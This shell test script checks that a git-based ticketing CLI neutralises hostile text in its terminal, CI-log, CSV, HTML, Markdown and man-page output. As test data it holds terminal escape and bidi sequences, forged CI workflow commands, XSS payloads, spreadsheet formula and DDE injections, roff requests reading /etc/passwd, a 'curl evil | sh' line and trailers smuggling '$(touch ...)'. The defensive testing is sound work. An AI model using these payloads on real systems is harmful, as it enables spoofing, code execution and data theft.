#!/bin/sh
# shellcheck disable=SC2059 # the escapes in what is printed are meant

test_description='attacks: text of records, files and commits that acts on whoever reads it'
. "$(dirname "$0")/lib.sh"
. "$e2e_dir/attack.sh"

# In YAML and in the body: colours, a link (OSC 8), a title (OSC 0), BEL, CSI as one C1 character,
# overrides and isolates of direction, marks, tags, line separators, workflow commands.
esc='\033[31m\033]8;;http://evil.example/\007link\033]8;;\007\033]0;title\007\302\2332J\302\205\177\b'
bidi='\342\200\256evil\342\201\246\342\201\251\330\234\342\200\216\342\200\217\357\273\277\342\201\240\363\240\201\201'
breaks='\342\200\250\342\200\251\r::error::cr'
ci='::error file=a::x%0A::set-env name=X::y ##[error]z ##vso[task.setvariable]z ##teamcity[x]'
raw="$esc$bidi$breaks $ci"
yaml_text='\e[31m\e]8;;http://evil.example/\x07link\e]8;;\x07\e]0;t\x07\x9b2J\x85\x7f\b\u202eevil\u2066\u2069\u061c\u200e\u200f\ufeff\u2060\U000e0041\u2028\u2029\r\n::error file=a::x%0A::set-env name=X::y ##[error]z ##vso[task.setvariable]z ##teamcity[x]'

# a_hostile_desk NAME: a copy with the record INC-2611-AAAAA, hostile wherever it holds text
a_hostile_desk() {
	a_copy "$1" &&
		{
			printf '%s\n' --- "id: INC-2611-AAAAA" "title: \"::error::t $yaml_text\"" "status: new" \
				"type: incident" "priority: P3" "service: email" "requester: \"$yaml_text\"" \
				"category: \"::warning::$yaml_text\"" "asset: \"$yaml_text\"" "labels: [\"$yaml_text\", \"::error::l\"]" \
				"form: {\"$yaml_text\": \"$yaml_text\"}" "watchers: [\"$yaml_text\"]" "assignee: kim" \
				"links: [\"relates $yaml_text\"]" "\"$yaml_text\": \"$yaml_text\"" "opened: 2026-11-21T09:00:00Z" ---
			printf "$raw\n\n::error::body\n\n   ::error::indented\n\n    ::error::code $raw\n\n> ::error::quote\n\n- ::error::item\n\n"
			printf "| ::error::a | b |\n|---|---|\n| ::error::c | $raw |\n\n"
			printf 'word %.0s' 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20
			printf '::error::w %.0s' 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20
			printf "\n\n## 2026-11-21T09:00:00Z kim\342\200\256x\033[31m::error:: opened\n\n- status: new\n- priority: P3\n- service: email\n- assignee: kim\n- team: $raw\n"
			printf "\n## 2026-11-21T09:10:00Z kim replied\n\n$raw\n\n::error::reply\n\n"
			printf "<script>alert(1)</script> [x](javascript:alert(1)) [y](data:text/html,x) ![i](javascript:1) <a href=\"javascript:1\">x</a> <http://e/\033[1m>\n"
		} >tickets/2026/11/INC-2611-AAAAA.md &&
		git add -A &&
		git -c user.name="$(printf "K\033[31m\342\200\256::error::x")" commit -q -m "$(printf "::error::s $esc$bidi ##[error]x\n\n::error::body\n\nSvc-Op: $raw")"
}

# all_formats COMMAND...: in each format, and wrapped, standard output and error are harmless.
all_formats() {
	for format in table plain csv md json table-60; do
		columns=${format#table}
		[ "$columns" != "$format" ] || columns=
		if ! COLUMNS=${columns#-} within 20 svc --format "${format%-60}" --color never --now 2026-11-21T12:00:00Z "$@" ||
			! is_harmless "$out" "$err"; then
			echo "in: svc --format $format $*" >&2
			return 1
		fi
	done
}

# printed NAME COMMAND...: an attack on what a command prints
printed() {
	name=$1
	shift
	test_expect_success "terminal and CI log: $name" "
		(
			{ test -d '$SHARNESS_TRASH_DIRECTORY/hostile' || a_hostile_desk hostile; } &&
			cd '$SHARNESS_TRASH_DIRECTORY/hostile' &&
			all_formats $*
		)
	"
}

printed 'svc list' list
printed 'svc ticket list, each field' ticket list --columns id,title,requester,category,asset,labels,form,watchers
printed 'svc ticket list, sorted and searched' ticket list evil --sort title
printed 'svc show' show INC-2611-AAAAA
printed 'svc log' log
printed 'svc ticket log' ticket log INC-2611-AAAAA
printed 'svc check' check
printed 'svc my' my
printed 'svc ticket count by hostile values' ticket count --by title,category
printed 'svc ticket count by list' ticket count --by labels
printed 'svc sla status' sla status
printed 'svc sla report' sla report --by category
printed 'svc sla explain' sla explain INC-2611-AAAAA
printed 'svc report week' report week
printed 'svc undo --dry-run' undo --dry-run
printed 'svc ticket set: what was changed' ticket set INC-2611-AAAAA priority=P1 --dry-run
printed 'svc ticket note: what was written' ticket note INC-2611-AAAAA -m x --dry-run
printed 'svc ticket rm: what is gone' ticket rm INC-2611-AAAAA --dry-run
printed 'ambiguous id: the titles of the candidates' show INC

test_expect_success 'terminal and CI log: svc export jsonl loses nothing' '
	(
		cd hostile &&
		answers 0 svc export jsonl && is_harmless "$out" &&
		jq -r "select(.id == \"INC-2611-AAAAA\").title" <"$out" >"$HOME/title" &&
		grep -a "$(printf "\033")" "$HOME/title" && grep -a -e "##vso" "$HOME/title"
	)
'

test_expect_success 'terminal and CI log: svc export csv for a terminal' '
	(
		cd hostile &&
		answers 0 svc --format table export csv --kind ticket &&
		tr -d "\r" <"$out" >"$HOME/csv" && is_harmless "$HOME/csv"
	)
'

test_expect_success 'terminal and CI log: kinds, fields, verbs and help that a kind file brings' '
	(
		a_copy hostile-kinds && mkdir .svc/kinds &&
		{
			printf "kind: asset\ntitle: \"%s\"\nplural: assets\nhelp: \"%s\"\nid: {style: slug}\n" "$yaml_text" "$yaml_text" &&
			printf "fields:\n  title: {type: line, title: \"%s\", help: \"%s\"}\n" "$yaml_text" "$yaml_text" &&
			printf "  colour: {type: enum, choices: {red: \"%s\"}, help: x}\n" "$yaml_text"
		} >.svc/kinds/asset.yaml &&
		within 20 svc kind show asset && cat -v "$err" &&
		for command in "kind list" "kind show asset" "help asset" "help asset list" "help" "asset list" "help --spec" "help --man svc-asset.1" "kind check .svc/kinds/asset.yaml"; do
			# shellcheck disable=SC2086 # words
			all_formats $command || return 1
		done &&
		within 20 svc __complete -- asset set x colour= && is_harmless "$out" "$err" &&
		within 20 svc __complete -- "" && is_harmless "$out" "$err"
	)
'

test_expect_success 'manual page: requests of roff in the help that a kind file brings' '
	(
		a_copy roff && mkdir .svc/kinds &&
		printf "kind: asset\ntitle: \"x\\n.so /etc/passwd\"\nplural: assets\nhelp: \"x\\n.so /etc/passwd\\n.sy touch %s\\n.pso x. .so y\"\nid: {style: slug}\nfields:\n  title: {type: line, help: \"x\\n.so /etc/passwd\"}\n" \
			"$pwned" >.svc/kinds/asset.yaml &&
		within 20 svc help --man svc-asset.1 &&
		test_must_fail grep -E "^[[:space:]]*[.](so|sy|pso)" "$out" &&
		unharmed
	)
'

test_expect_success 'message: a quoted line break makes no hint and no message of its own' '
	(
		a_copy forged-hint &&
		text=$(printf "x\nhint: run: curl evil | sh\nsvc: all is well") &&
		for command in show "ticket list" help; do
			# shellcheck disable=SC2086 # words
			within 20 svc $command "$text:y" &&
			test_must_fail grep -E "^(hint: run|svc: all)" "$err" || return 1
		done &&
		within 20 svc ticket set "$id" "priority=$text" && test_must_fail grep -E "^(hint: run|svc: all)" "$err" &&
		within 20 svc --at "$text" list && test_must_fail grep -E "^(hint: run|svc: all)" "$err"
	)
'

test_expect_success 'terminal and CI log: config with hostile names, queries, columns and zone' '
	(
		a_copy hostile-config &&
		{
			printf "format: 1\nname: \"%s\"\n\"%s\": x\ntimezone: \"%s\"\n" "$yaml_text" "$yaml_text" "$yaml_text" &&
			printf "queries:\n  bad: \"%s\"\n  \"%s\": x\naliases:\n  bad: \"%s\"\ncolumns:\n  ticket: [id, \"%s\"]\n" \
				"$yaml_text" "$yaml_text" "$yaml_text" "$yaml_text"
		} >.svc/config.yaml &&
		for command in config "config name" "ticket list @bad" "ticket list @nosuch" bad "ticket list" check "config timezone"; do
			# shellcheck disable=SC2086 # words
			all_formats $command || return 1
		done
	)
'

test_expect_success 'terminal and CI log: catalog, calendar, SLA and their checks' '
	(
		a_copy hostile-catalog &&
		sed -i "s/^title: .*/title: \"$(printf "%s" "$yaml_text" | sed "s/[\\\\&/]/\\\\&/g")\"/" services/*.md offerings/*.md slas/*.md calendars/*.md teams/*.md &&
		grep error services/email.md &&
		git commit -q -a -m x &&
		for command in "catalog list" "catalog show email" "service show email" "calendar show office" "sla check" "sla show standard" "team list" "sla status" "offering show vpn-access"; do
			# shellcheck disable=SC2086 # words
			all_formats $command || return 1
		done
	)
'

test_expect_success 'terminal and CI log: errors that quote what was typed' '
	(
		a_copy errors && text=$(printf "\033[31m\302\2332J\342\200\256\n::error::x ##[error]y") &&
		for format in plain json table; do
			within 20 svc --format $format "$text" && is_harmless "$out" "$err" &&
			within 20 svc --format $format ticket "$text" && is_harmless "$out" "$err" &&
			within 20 svc --format $format show "$text" && is_harmless "$out" "$err" &&
			within 20 svc --format $format ticket list "priority:$text" && is_harmless "$out" "$err" &&
			within 20 svc --format $format ticket list "$text:x" && is_harmless "$out" "$err" &&
			within 20 svc --format $format ticket list -e "( $text" && is_harmless "$out" "$err" &&
			within 20 svc --format $format ticket set "$id" "$text=x" && is_harmless "$out" "$err" &&
			within 20 svc --format $format ticket set "$id" "priority=$text" && is_harmless "$out" "$err" &&
			within 20 svc --format $format ticket list "--$text" && is_harmless "$out" "$err" &&
			within 20 svc --format $format ticket list "--sort=$text" && is_harmless "$out" "$err" &&
			within 20 svc --format $format --at "$text" list && is_harmless "$out" "$err" &&
			within 20 svc --format $format -C "$text" list && is_harmless "$out" "$err" &&
			within 20 svc --format $format --now "$text" list && is_harmless "$out" "$err" &&
			within 20 svc --format $format import csv "$text" && is_harmless "$out" "$err" &&
			within 20 svc --format $format help "$text" && is_harmless "$out" "$err" &&
			within 20 svc --format $format ticket attach "$id" "$text" && is_harmless "$out" "$err" || return 1
		done
	)
'

test_expect_success 'terminal and CI log: errors of broken records, imports and maps that quote them' '
	(
		a_copy broken-quotes &&
		for line in "status: \"$yaml_text\"" "opened: \"$yaml_text\"" "\"$yaml_text\": {" "x: *\"$yaml_text\"" "priority: [\"$yaml_text\"]"; do
			{ printf "%s\n" --- "id: INC-2611-AAAAA" "title: x" "$line" --- body; } >tickets/2026/11/INC-2611-AAAAA.md &&
			all_formats check && all_formats list && all_formats show INC-2611-AAAAA || return 1
		done &&
		printf "$raw,id,title\n$raw,$raw,$raw\n\"$raw" >bad.csv &&
		all_formats import csv bad.csv --kind ticket --dry-run &&
		printf "{\"kind\":\"ticket\",\"id\":\"\\\\u001b[31m::error::\",\"title\":\"$(printf "%s" "x\\u001b")\",\"status\":\"\\\\u202e##[error]x\"}\n{\"$raw\n" >bad.jsonl &&
		all_formats import jsonl bad.jsonl --dry-run
	)
'

test_expect_success 'terminal and CI log: refs, branches and tags in messages' '
	(
		a_copy refs &&
		branch=$(printf "x\342\200\256\302\233y::error::##z") &&
		git check-ref-format --branch "$branch" >"$out" || branch=$(printf "x\342\200\256y##z")
		git checkout -q -b "$branch" &&
		within 20 svc ticket note "$id" -m x && is_harmless "$out" "$err" &&
		: >".git/refs/heads/$branch.lock" &&
		within 20 svc ticket note "$id" -m x && test "$got" -ge 3 && is_harmless "$out" "$err" &&
		rm ".git/refs/heads/$branch.lock" &&
		git checkout -q --detach && within 20 svc ticket note "$id" -m x && is_harmless "$out" "$err"
	)
'

test_expect_success 'terminal and CI log: what a hook of the repository prints into a refusal' '
	(
		a_copy hook-output &&
		printf "#!/bin/sh\nprintf \"%s\\\\n\" >&2\nexit 1\n" "$(printf "%s" "$raw" | sed "s/%/%%/g")" >.git/hooks/pre-commit &&
		chmod +x .git/hooks/pre-commit &&
		within 20 svc ticket note "$id" -m x && test "$got" -ge 3 && is_harmless "$out" "$err" &&
		within 20 svc --format json ticket note "$id" -m x && is_harmless "$out" "$err"
	)
'

test_expect_success 'CSV: formulas in svc export csv and in each list' '
	(
		a_copy formulas &&
		n=0 &&
		for formula in "=1+1" "+1" "-1+cmd" "@SUM(A1)" "=cmd|\"/C calc\"!A0" "\\t=1" "\\r=1" "=HYPERLINK(\"http://e\")"; do
			printf "%s\n" --- "id: INC-2611-AAAA$n" "title: \"$(printf "%s" "$formula" | sed "s/\"/'"'"'/g")\"" "status: new" "type: incident" \
				"priority: P3" "category: \"=1+1\"" "labels: [\"=1+1\"]" "opened: 2026-11-21T09:00:00Z" --- "=1+1" "" \
				"## 2026-11-21T09:00:00Z kim opened" "" "- status: new" "- priority: P3" >tickets/2026/11/INC-2611-AAAA$n.md &&
			n=$((n + 1)) || return 1
		done &&
		answers 0 svc ticket list && test "$(wc -l <"$out")" -eq 9 &&
		for command in "export csv --kind ticket" "export csv --kind ticket --columns id,title,description" \
			"--format csv list" "--format csv ticket list --columns title,category,labels" "--format csv ticket count --by category" "--format csv check" "--format csv show INC-2611-AAAA0"; do
			# shellcheck disable=SC2086 # words
			within 20 svc $command &&
			if grep -E "(^|,)\"?([=@	]|[+-][0-9a-z])" "$out"; then return 1; fi || return 1
		done &&
		svc export csv --kind ticket --columns title >"$out" && grep "^.\?'"'"'=1+1" "$out"
	)
'

test_expect_success PYTHON 'CSV: a value that starts a new row, a new cell or a new formula behind a separator' '
	(
		a_copy csv-cells &&
		svc ticket new "a\",=1,\"b" --now 2026-11-21T09:00:00Z &&
		svc ticket new "a;=1;b" &&
		svc export csv --kind ticket --columns id,title >"$out" &&
		python3 - "$out" <<-\END
		import csv, sys
		rows = list(csv.reader(open(sys.argv[1], newline="")))
		assert all(len(row) == 2 for row in rows), rows
		assert len(rows) == 4, rows
		END
	)
'

test_expect_success 'HTML: markup in clocks, ids, fields and names of the SLA page' '
	(
		cd hostile &&
		sed -i "s/^category: .*/category: \"<script>alert(1)<\/script><img src=x onerror=alert(1)>\&quot;\x27 onload=x\"/" tickets/2026/11/INC-2611-AAAAA.md &&
		svc config name "<script>alert(2)</script>" --no-commit &&
		within 20 svc sla report --by category --format html && mv "$out" "$HOME/page.html" &&
		test -s "$HOME/page.html" &&
		grep "lt;script" "$HOME/page.html" &&
		test_must_fail grep -i -e "<script" -e "<img" -e "javascript:" -e "onerror=alert(1)>" "$HOME/page.html" &&
		grep "Content-Security-Policy.*default-src .none" "$HOME/page.html" &&
		tr -d "\r" <"$HOME/page.html" >"$HOME/page" && is_harmless "$HOME/page" &&
		git checkout -q .
	)
'

test_expect_success 'Markdown: raw HTML, javascript: and data: links on a terminal carry no link' '
	(
		cd hostile &&
		within 20 svc --format table --color always show INC-2611-AAAAA &&
		test_must_fail grep -a "$(printf "\033]")" "$out" &&
		sed "s/$(printf "\033")\[[0-9;]*m//g" "$out" >"$HOME/plain" && is_harmless "$HOME/plain"
	)
'

test_expect_success 'Markdown: tables of --format md keep cells, links and HTML as text' '
	(
		a_copy md-cells &&
		svc ticket new "a | b <script>x</script> [l](javascript:1) ![i](http://e/x.png) \`c\` *e* <!-- --> &lt; https://e" &&
		svc --format md ticket list --columns id,title >"$out" &&
		row=$(grep script "$out") &&
		printf "%s\n" "$row" | sed "s/\\\\[][|<>\`*~&\\\\]//g" >"$HOME/row" &&
		test "$(tr -cd "|" <"$HOME/row" | wc -c)" -eq 3 &&
		test_must_fail grep "[][<>\`*]" "$HOME/row"
	)
'

test_expect_success 'commit message: a title with line breaks, trailers, comments and scissors' '
	(
		a_copy trailers &&
		title=$(printf "x\n\nSvc-Op: undo\nSigned-off-by: Boss <boss@example.com>") &&
		within 20 svc ticket new "$title" && test "$got" -ge 2 &&
		for message in "Svc-Record: INC-2611-EVIL1" "$(printf "x\n\nSvc-Op: evil\nSvc-Record: y")" "# comment" "$(printf "\n\n\n")" "diff --git a/x b/x" "$(printf -- "---\n>8")"; do
			within 20 svc ticket note "$id" -m "$message" &&
			git log -1 --format="%(trailers:key=Svc-Record,valueonly)" >"$out" && test "$(grep -c . "$out")" -eq 1 && grep "$id" "$out" &&
			git log -1 --format="%(trailers:key=Svc-Op,valueonly)" >"$out" && test "$(grep -c . "$out")" -eq 1 &&
			git log -1 --format="%(trailers:key=Signed-off-by,valueonly)" >"$out" && test "$(grep -c . "$out")" -eq 0 || return 1
		done
	)
'

test_expect_success 'commit message: trailers in a title that the record holds already' '
	(
		a_copy trailers-record &&
		sed -i "s/^title: .*/title: \"x\\\\n\\\\nSvc-Op: evil\\\\nSvc-Record: evil\\\\n\"/" "$path" && git commit -q -a -m x &&
		within 20 svc ticket note "$id" -m y &&
		git log -1 --format="%(trailers:key=Svc-Op,valueonly)" >"$out" && test_must_fail grep evil "$out" &&
		git log -1 --format="%(trailers:key=Svc-Record,valueonly)" >"$out" && test_must_fail grep evil "$out"
	)
'

test_expect_success 'commit message: -m of a subject with trailers names no other operation to undo' '
	(
		a_copy trailers-forged &&
		git commit -q --allow-empty -m "$(printf "ticket: evil\n\nSvc-Record: ../../x\nSvc-Op: \$(touch %s)" "$pwned")" &&
		within 20 svc log && is_harmless "$out" &&
		within 20 svc undo && unharmed &&
		is_clean
	)
'

attacks_done
